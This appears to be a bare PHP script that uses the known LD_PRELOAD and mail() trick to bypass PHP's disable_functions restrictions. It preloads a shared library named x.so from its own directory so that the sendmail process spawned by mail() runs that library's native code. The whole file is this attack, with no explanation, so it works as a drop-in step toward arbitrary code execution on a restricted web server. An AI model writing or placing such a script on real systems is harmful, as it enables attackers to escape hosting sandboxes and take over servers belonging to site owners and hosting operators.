<?php
putenv("LD_PRELOAD=" . __DIR__ . "/x.so");
mail("a@example.invalid", "", "", "");
